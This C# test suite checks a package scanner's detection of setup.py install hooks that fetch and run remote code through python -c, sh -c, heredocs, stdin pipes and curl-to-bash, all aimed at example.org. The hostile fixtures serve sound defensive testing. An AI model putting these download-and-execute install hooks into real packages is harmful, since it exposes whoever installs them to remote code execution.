using Bulwark.Core.Moderation.Scanning;
using static Bulwark.Core.Tests.Moderation.ScanTestKit;

namespace Bulwark.Core.Tests.Moderation;

/// <summary>
/// Code handed to a child interpreter (<c>python -c CODE</c>, <c>sh -c CMD</c>, a heredoc, a pipe on stdin) is
/// analysed as code: the download-and-exec it holds scores as it would written directly in setup.py.
/// </summary>
public class ChildInterpreterTests
{
    private const string Fetch = "import urllib.request as u;exec(u.urlopen('%s').read())";

    /// <summary>A setup.py whose custom install command runs <paramref name="body"/> (indented four spaces by the caller's lines).</summary>
    private static ScanReport InstallCommand(string imports, params string[] body) => SetupPy(
        $"{imports}\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
        + "SOURCE = 'https://example.org/stage2.py'\n"
        + "class Post(install):\n    def run(self):\n        install.run(self)\n"
        + string.Concat(body.Select(line => "        " + line + "\n"))
        + "setup(name='pkg', cmdclass={'install': Post})\n");

    private static void Malicious(ScanReport report, string rule = "download-execute")
    {
        Has(report, rule);
        Assert.True(report.Verdict == ScanVerdict.Malicious,
            $"expected malicious; got {report.Verdict} {report.Score}: {string.Join("; ", report.Findings.Select(f => $"{f.Rule}({f.Score}) {f.Path}:{f.Line} {f.Evidence}"))}");
    }

    [Fact]
    public void Percent_formatted_code_given_to_sys_executable_is_download_execute() =>
        Malicious(InstallCommand("import subprocess, sys", $"subprocess.run([sys.executable, \"-c\", \"{Fetch}\" % SOURCE])"));

    [Fact]
    public void Literal_code_given_to_python3_is_download_execute() =>
        Malicious(InstallCommand("import subprocess",
            "subprocess.check_call(['python3', '-c', \"import urllib.request;exec(urllib.request.urlopen('https://example.org/p').read())\"])"));

    [Fact]
    public void Concatenated_code_with_a_variable_url_is_download_execute() =>
        Malicious(InstallCommand("import subprocess, sys",
            "url = self.distribution.get_url()",
            "code = 'import requests;' + 'exec(requests.get(' + repr(url) + ').text)'",
            "subprocess.Popen([sys.executable, '-c', code])"));

    [Fact]
    public void Format_method_code_is_download_execute() =>
        Malicious(InstallCommand("import subprocess, sys",
            "subprocess.call([sys.executable, '-I', '-c', \"from urllib.request import urlopen; exec(urlopen('{}').read())\".format(SOURCE)])"));

    [Fact]
    public void Os_system_with_a_quoted_python_command_is_download_execute() =>
        Malicious(InstallCommand("import os",
            "os.system(\"python3 -c \\\"import urllib.request;exec(urllib.request.urlopen('https://example.org/p').read())\\\"\")"));

    [Fact]
    public void Shell_true_string_is_download_execute() =>
        Malicious(InstallCommand("import subprocess",
            "subprocess.run(\"python -c 'import requests; exec(requests.get(\\\"https://example.org/p\\\").text)'\", shell=True)"));

    [Fact]
    public void Os_spawn_of_python_with_code_is_download_execute() =>
        Malicious(InstallCommand("import os, sys",
            $"os.spawnl(os.P_NOWAIT, sys.executable, 'python', '-c', \"{Fetch}\" % SOURCE)"));

    [Fact]
    public void Sh_c_wrapping_python_c_is_download_execute() =>
        Malicious(InstallCommand("import subprocess",
            "subprocess.call(['/bin/sh', '-c', \"python3 -c \\\"import urllib.request as r; exec(r.urlopen('http://example.org/x').read())\\\"\"])"));

    [Fact]
    public void Command_substitution_of_a_download_is_a_shell_downloader() =>
        Malicious(InstallCommand("import os", "os.system('bash -c \"$(curl -fsSL https://example.org/install)\"')"), "shell-downloader");

    [Fact]
    public void Curl_piped_to_sudo_bash_is_a_shell_downloader() =>
        Malicious(InstallCommand("import subprocess", "subprocess.run('curl -s https://example.org/i | sudo -E bash', shell=True)"), "shell-downloader");

    [Fact]
    public void Process_substitution_of_a_download_is_a_shell_downloader() =>
        Malicious(InstallCommand("import os", "os.system('python3 <(wget -qO- https://example.org/p)')"), "shell-downloader");

    [Fact]
    public void Heredoc_fed_to_python_is_analysed_as_code() =>
        Malicious(InstallCommand("import os",
            "os.system(\"python3 - <<'EOF'\\nimport urllib.request\\nexec(urllib.request.urlopen('https://example.org/p').read())\\nEOF\")"));

    [Fact]
    public void Downloaded_code_written_to_a_python_stdin_is_download_execute() =>
        Malicious(InstallCommand("import subprocess, sys, urllib.request",
            "p = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)",
            "p.communicate(urllib.request.urlopen(SOURCE).read())"));

    [Fact]
    public void Literal_code_written_to_a_python_stdin_is_analysed_as_code() =>
        Malicious(InstallCommand("import subprocess, sys",
            "with subprocess.Popen([sys.executable], stdin=subprocess.PIPE) as child:",
            $"    child.stdin.write((\"{Fetch}\" % SOURCE).encode())"));

    [Fact]
    public void Code_in_a_library_module_function_is_analysed_too() =>
        Has(Library($"import subprocess, sys\ndef update():\n    subprocess.run([sys.executable, '-c', \"{Fetch}\" % 'https://example.org/u'])\n"), "download-execute");

    [Fact]
    public void F_string_command_with_sys_executable_is_download_execute() =>
        Malicious(InstallCommand("import subprocess, sys",
            "subprocess.check_call(f'{sys.executable} -c \"import urllib.request as r; exec(r.urlopen(\\'{SOURCE}\\').read())\"', shell=True)"));

    [Fact]
    public void Concatenated_command_line_with_sys_executable_is_download_execute() =>
        Malicious(InstallCommand("import os, sys",
            "os.popen(sys.executable + ' -c \"import requests; exec(requests.get(\\'%s\\').text)\"' % SOURCE).read()"));

    [Fact]
    public void Interpreter_found_at_run_time_is_read_as_python() =>
        Malicious(InstallCommand("import shutil, subprocess",
            "py = shutil.which('python3') or 'python'",
            $"subprocess.run([py, '-u', '-c', \"{Fetch}\" % SOURCE], check=False)"));

    [Fact]
    public void Argument_vector_built_in_a_variable_is_read_where_it_was_built() =>
        Malicious(InstallCommand("import os, sys",
            $"argv = [sys.executable, '-c', \"{Fetch}\" % SOURCE]",
            "os.execv(sys.executable, argv) if os.name == 'nt' else __import__('subprocess').run(argv)"));

    [Fact]
    public void Command_line_formatted_from_sys_executable_and_the_code_is_download_execute() =>
        Malicious(InstallCommand("import os, sys",
            $"CODE = \"{Fetch}\" % SOURCE",
            "os.system('%s -c %r' % (sys.executable, CODE))",
            "os.system('{} -c \"{}\"'.format(sys.executable, CODE))"));

    [Fact]
    public void Downloaded_code_communicated_to_a_chained_popen_is_download_execute() =>
        Malicious(Init("import subprocess, requests\nsubprocess.Popen('python -', shell=True, stdin=subprocess.PIPE).communicate(requests.get('https://example.org/p').content)\n"));

    [Fact]
    public void Pip_through_sys_executable_is_clean() =>
        Clean(InstallCommand("import subprocess, sys", "subprocess.run([sys.executable, '-m', 'pip', 'install', '--upgrade', 'wheel'], check=True)"));

    [Fact]
    public void Printing_the_version_through_python_c_is_clean() =>
        Clean(InstallCommand("import os, subprocess, sys",
            "out = subprocess.check_output([sys.executable, '-c', 'import sys; print(sys.version)'])",
            "os.system('python3 -c \"import sysconfig; print(sysconfig.get_paths()[\\'include\\'])\"')"));

    [Fact]
    public void Build_helpers_through_child_interpreters_are_clean() =>
        Clean(SetupPy("""
            import subprocess, sys
            from setuptools import setup
            from setuptools.command.build_ext import build_ext
            class Build(build_ext):
                def run(self):
                    subprocess.check_call([sys.executable, '-c', 'import numpy; print(numpy.get_include())'])
                    subprocess.check_call(['sh', '-c', 'cd vendor && ./configure --prefix=/usr && make'])
                    subprocess.check_call('python3 - <<EOF\nimport json\nprint(json.dumps({"ok": True}))\nEOF', shell=True)
                    p = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)
                    p.communicate(b'print(1)')
                    super().run()
            setup(name='pkg', cmdclass={'build_ext': Build})
            """));

    [Fact]
    public void Git_dash_c_option_is_not_read_as_code() =>
        Clean(SetupPy("import subprocess\nsubprocess.check_output(['git', '-c', 'core.abbrev=12', 'describe', '--tags'])\n"));

    [Fact]
    public void Deeply_nested_child_interpreters_are_read_to_the_depth_limit_only()
    {
        // Each level wraps the previous one in python -c, beyond the payload depth: the scan ends, and ordinary code stays clean.
        var code = "print(1)";
        for (var i = 0; i < 8; i++)
        {
            code = "import subprocess, sys; subprocess.run([sys.executable, '-c', " + System.Text.Json.JsonSerializer.Serialize(code) + "])";
        }

        Clean(SetupPy(code + "\n"));
    }

    [Fact]
    public void Hostile_command_strings_are_read_within_the_budgets()
    {
        // Runs of separators, unterminated heredocs, nested sh -c and repeated curl URLs: each search stays linear and bounded in count.
        var command = new string(',', 200_000) + string.Concat(Enumerable.Repeat("python - <<A\\n", 4000))
            + string.Concat(Enumerable.Repeat("sh -c ", 20_000)) + string.Concat(Enumerable.Repeat("python3 -c 'print(1)' ", 2000)) + string.Concat(Enumerable.Repeat("curl https://x/ ", 8000));
        Clean(SetupPy($"import os\nos.system('{command}')\n"));
    }
}
